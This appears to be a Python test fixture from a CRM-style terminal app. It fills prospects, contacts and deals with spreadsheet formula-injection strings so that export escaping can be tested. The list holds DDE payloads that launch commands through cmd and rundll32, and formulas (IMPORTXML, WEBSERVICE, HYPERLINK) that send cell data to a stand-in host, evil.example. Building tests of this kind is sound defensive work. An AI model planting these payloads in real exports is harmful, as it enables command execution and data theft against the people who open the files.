"""Texts that a spreadsheet would take for a formula, and the books that hold them."""

from __future__ import annotations

from typing import TYPE_CHECKING

from pipeline_tui.actions.contacts import NewContact, add_contact
from pipeline_tui.actions.deals import NewDeal, add_deal
from pipeline_tui.actions.prospects import NewProspect, add_prospect

if TYPE_CHECKING:
    from pipeline_tui.book import Change

PAYLOADS = (
    "=1+1", "=SUM(A1:A9)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"bill\")",
    "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "==1", "=A1",
    "+1+1", "+cmd|'/C calc'!A0", "+SUM(1)", "+7 900 111-22-33+1", "+A1", "+-+1",
    "-1+1", "-2+3+cmd|'/C calc'!A0", "-A1", "- 1 - 1", "--1", "-cmd",
    "@SUM(1+9)", "@A1", "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t\t+1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "'=1+1", "''=1+1", "x;=1+1", "x\n=cmd|'/C calc'!A0", "x\t+1+1", "x\";=1+1;\"",
)  # fmt: skip
SIGNS = tuple("=+-@＝＋－＠")


def fill_with_payloads(change: Change) -> None:
    """A prospect, a contact and a deal of each name."""
    for text in PAYLOADS:
        new = NewProspect(f"{text}x", source=text, notes=text, needs=text, fields={"own": text})
        prospect = add_prospect(change, new)
        prospect, _ = add_contact(change, prospect, NewContact(f"{text}y", role=text))
        add_deal(change, prospect, NewDeal("EUR", text, product=text, owner=text))
